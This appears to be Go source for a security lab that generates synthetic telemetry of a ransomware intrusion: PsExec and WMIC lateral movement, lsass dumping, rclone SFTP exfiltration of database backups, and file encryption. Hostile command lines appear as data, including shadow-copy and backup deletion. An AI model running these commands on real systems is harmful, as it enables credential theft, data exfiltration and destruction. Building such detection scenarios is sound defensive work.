package lab

// This file plants the intrusion's second night: PsExec to the file
// server, procdump there, WMI to the SQL server, the SFTP exfiltration of
// its backups and the ransomware on the file server's shares.

import (
	"fmt"
	"time"
)

const fakePassword = "Winter2024!"

func plantPsExec(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	adm := p.admin.admin
	t := p.stage2
	c.fileEvent(p.implant, add(t, -3*time.Minute), "FileCreated", attackPsExec, nil)
	args := fmt.Sprintf(`\\%s -accepteula -u %s\%s -p %s -s cmd.exe`, p.fs.Name, netbios, adm.Name, fakePassword)
	cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C C:\Users\Public\PsExec64.exe `+args, add(t, -time.Second), p.victim)
	ps := c.spawn(cmd, attackPsExec, `C:\Users\Public\PsExec64.exe  `+args, t, p.victim)
	c.connect(ps, add(t, time.Second), "ConnectionSuccess", p.fs.IP, 445, "")
	f := c.peer(p.fs)
	f.accept(p.fs.sys.system, add(t, time.Second+time.Millisecond), p.target.IP, c.ephemeral(), 445)
	f.logon(add(t, time.Second+3*time.Millisecond), logonEv{action: "LogonSuccess", ltype: "Network", proto: "NTLM", acct: adm,
		remoteIP: p.target.IP, remoteDev: p.target.Name, remotePort: c.ephemeral(), admin: true})
	f.fileEvent(p.fs.sys.system, add(t, 2*time.Second), "FileCreated", attackPSSvc,
		&fileOp{ReqProtocol: "Smb", ReqSourceIP: p.target.IP, ReqSourcePort: c.ephemeral(), ReqAcct: adm, Share: "ADMIN$"})
	ev := f.misc(p.fs.sys.services, add(t, 3*time.Second), "ServiceInstalled",
		bag("ServiceName", "PSEXESVC", "ServiceAccount", "LocalSystem", "ServiceStartType", 3, "ServiceType", 16))
	ev.file = attackPSSvc
	f.created(p.fsShell.Parent)
	f.created(p.fsShell)
	sc.Entities = Entities{Devices: []string{p.target.Name, p.fs.Name}, Accounts: []string{acctName(adm)},
		Hashes: []string{attackPsExec.SHA256, attackPSSvc.SHA256}, Files: []string{attackPsExec.Path}}
}

// copyOver reports the attacker copying a tool from the target to a
// server's C$ share.
func copyOver(c *hctx, p *plan, to *host, tool *file, at time.Duration) {
	t := add(p.stage2, at)
	c.spawn(p.implant, img("cmd.exe"), fmt.Sprintf(`C:\Windows\system32\cmd.exe /C copy /Y C:\Users\Public\%s \\%s\C$%s`, tool.Name, to.Name, dirOf(tool.Path)[2:]+`\`), t, p.victim)
	c.connect(p.target.sys.system, add(t, 200*time.Millisecond), "ConnectionSuccess", to.IP, 445, "")
	c.fileEvent(p.implant, add(t, -time.Minute), "FileCreated", &file{Name: tool.Name, Path: `C:\Users\Public\` + tool.Name,
		lowerPath: `c:\users\public\` + tool.Name, digest: tool.digest, Size: tool.Size, ver: tool.ver, signer: tool.signer, sigStatus: tool.sigStatus}, nil)
	c.peer(to).fileEvent(to.sys.system, add(t, time.Second), "FileCreated", tool,
		&fileOp{ReqProtocol: "Smb", ReqSourceIP: p.target.IP, ReqSourcePort: c.ephemeral(), ReqAcct: p.admin.admin, Share: "C$"})
}

func plantProcdump(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	copyOver(c, p, p.fs, procdumpFile, 7*time.Minute)
	f := c.peer(p.fs)
	t := add(p.stage2, 9*time.Minute)
	pd := f.spawn(p.fsShell, procdumpFile, `C:\Windows\Temp\pd64.exe  -accepteula -ma lsass.exe C:\Windows\Temp\fs01.dmp`, t, acctSystem)
	lsass := p.fs.sys.lsass
	f.emit(tEvents, add(t, 500*time.Millisecond), &event{action: "OpenProcessApiCall", init: pd, proc: lsass, file: lsass.Img,
		extra: bag("DesiredAccess", 2097151)})
	dump := newFile(`C:\Windows\Temp\fs01.dmp`, "attacker|fs01.dmp", int64(r.between(52e6, 70e6)))
	f.fileEvent(pd, add(t, 5*time.Second), "FileCreated", dump, nil)
	sc.Entities = Entities{Devices: []string{p.target.Name, p.fs.Name}, Accounts: []string{acctName(p.admin.admin)},
		Hashes: []string{procdumpFile.SHA256}, Files: []string{procdumpFile.Path, dump.Path, `C:\Users\Public\pd64.exe`}}
}

func plantWMI(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	adm := p.admin.admin
	wmi := p.sqlShell.Parent
	t := add(wmi.Created, -3*time.Second)
	args := fmt.Sprintf(`/node:%s /user:%s\%s /password:%s process call create "%s"`, p.sql.Name, netbios, adm.Name, fakePassword, p.sqlShell.Cmd)
	cmd := c.spawn(p.implant, img("cmd.exe"), `C:\Windows\system32\cmd.exe /C wmic `+args, t, p.victim)
	w := c.spawn(cmd, img("WMIC.exe"), "wmic  "+args, add(t, 100*time.Millisecond), p.victim)
	c.connect(w, add(t, 500*time.Millisecond), "ConnectionSuccess", p.sql.IP, 135, "")
	c.connect(w, add(t, 700*time.Millisecond), "ConnectionSuccess", p.sql.IP, 49668, "")
	s := c.peer(p.sql)
	s.accept(p.sql.sys.netsvc, add(t, 501*time.Millisecond), p.target.IP, c.ephemeral(), 135)
	s.logon(add(t, 600*time.Millisecond), logonEv{action: "LogonSuccess", ltype: "Network", proto: "NTLM", acct: adm,
		remoteIP: p.target.IP, remoteDev: p.target.Name, remotePort: c.ephemeral(), admin: true, id: p.sqlShell.LogonID})
	s.created(wmi)
	s.created(p.sqlShell)
	s.emit(tEvents, add(p.sqlShell.Created, 10*time.Millisecond), &event{action: "ProcessCreatedUsingWmiQuery", init: wmi, proc: p.sqlShell,
		file: p.sqlShell.Img, extra: bag("Namespace", `root\cimv2`, "ProcessId", p.sqlShell.PID)})
	sc.Entities = Entities{Devices: []string{p.target.Name, p.sql.Name}, Accounts: []string{acctName(adm)}}
}

func plantExfil(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	copyOver(c, p, p.sql, sevenZipFile, 45*time.Minute)
	copyOver(c, p, p.sql, rcloneFile, 46*time.Minute)
	s := c.peer(p.sql)
	adm := p.admin.admin
	t := add(p.stage2, 50*time.Minute)
	zipArgs := `C:\ProgramData\7za.exe a -mx1 -pHarb0rL1ne -mhe=on C:\ProgramData\db.7z D:\Backup\TMS_*.bak`
	cmd := elevate(s.spawn(p.sqlShell.Parent, img("cmd.exe"), `cmd.exe /Q /c `+zipArgs+` 1> \\127.0.0.1\ADMIN$\__1731302511.4 2>&1`, t, adm))
	z := s.spawn(cmd, sevenZipFile, zipArgs, add(t, 100*time.Millisecond), adm)
	archive := newFile(`C:\ProgramData\db.7z`, "attacker|db.7z", 3_612_884_992)
	s.fileEvent(z, add(t, 2*time.Second), "FileCreated", archive, nil)
	s.fileEvent(z, add(t, 13*time.Minute), "FileModified", archive, nil)
	t = add(t, 16*time.Minute)
	rcArgs := `C:\ProgramData\rclone.exe copy C:\ProgramData\db.7z drop:/upload --sftp-host ` + exfilIP + ` --sftp-user drop --transfers 8 -q`
	cmd = elevate(s.spawn(p.sqlShell.Parent, img("cmd.exe"), `cmd.exe /Q /c `+rcArgs+` 1> \\127.0.0.1\ADMIN$\__1731302511.4 2>&1`, t, adm))
	rc := s.spawn(cmd, rcloneFile, rcArgs, add(t, 100*time.Millisecond), adm)
	for i := range 8 {
		s.connect(rc, add(t, time.Duration(1000+120*i)*time.Millisecond), "ConnectionSuccess", exfilIP, 22, "")
	}
	// Traffic Analytics sees the upload as hours of outbound bytes.
	total, start := archive.Size+archive.Size/50, add(t, time.Second)
	end := add(start, 2*time.Hour+17*time.Minute)
	for iv := hourOf(start); iv < end; iv = add(iv, flowInterval) {
		from, to := max(iv, start), min(add(iv, flowInterval), end)
		share := int64(float64(total) * float64(to-from) / float64(end-start))
		g.addFlow(r, &flow{typ: "ExternalPublic", src: p.sql, publicIP: exfilIP, port: 22, l4: "T", l7: "ssh", allowed: true,
			rule: "defaultsecurityrules_allowinternetoutbound", ruleType: "Default", country: "NL", flows: 8,
			outPk: share / 1400, inPk: share / 9000, outB: share, inB: share / 70, first: from, last: to, ivStart: iv})
	}
	sc.Entities = Entities{Devices: []string{p.sql.Name}, Accounts: []string{acctName(adm)}, IPs: []string{exfilIP},
		Hashes: []string{sevenZipFile.SHA256, rcloneFile.SHA256},
		Files:  []string{sevenZipFile.Path, rcloneFile.Path, archive.Path}}
}

func plantRansomware(g *gen, sc *Scenario, r *rng) {
	p := g.plan
	c := g.on(p.target, r)
	copyOver(c, p, p.fs, ransomFile, 3*time.Hour+18*time.Minute)
	f := c.peer(p.fs)
	t := add(p.stage2, 3*time.Hour+20*time.Minute)
	lb := f.spawn(p.fsShell, ransomFile, `C:\Windows\Temp\lbx.exe -path D:\Shares -nolog`, t, acctSystem)
	for _, x := range [][2]string{
		{"vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"},
		{"WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"},
		{"bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"},
		{"bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"},
		{"wbadmin.exe", "wbadmin.exe delete catalog -quiet"},
	} {
		t = add(t, r.dur(2*time.Second, 6*time.Second))
		cmd := f.spawn(lb, img("cmd.exe"), `C:\Windows\system32\cmd.exe /c `+x[1], t, acctSystem)
		f.spawn(cmd, img(x[0]), x[1], add(t, 80*time.Millisecond), acctSystem)
	}
	var notes []string
	for _, share := range shareNames {
		t = add(t, r.dur(300*time.Millisecond, 2*time.Second))
		note := `D:\Shares\` + share + `\` + ransomNote
		notes = append(notes, note)
		f.fileEvent(lb, t, "FileCreated", newFile(note, "attacker|note", 1874), nil)
		for _, path := range g.fleet.shareFiles[share] {
			t = add(t, r.dur(150*time.Millisecond, 1200*time.Millisecond))
			enc := newFile(path+ransomExt, "attacker|enc|"+path, int64(r.between(20000, 3000000)))
			f.fileEvent(lb, t, "FileRenamed", enc, &fileOp{PrevPath: path})
		}
	}
	sc.Entities = Entities{Devices: []string{p.fs.Name}, Accounts: []string{acctName(p.admin.admin)},
		Hashes: []string{ransomFile.SHA256}, Files: append([]string{ransomFile.Path, `C:\Users\Public\lbx.exe`}, notes...)}
}
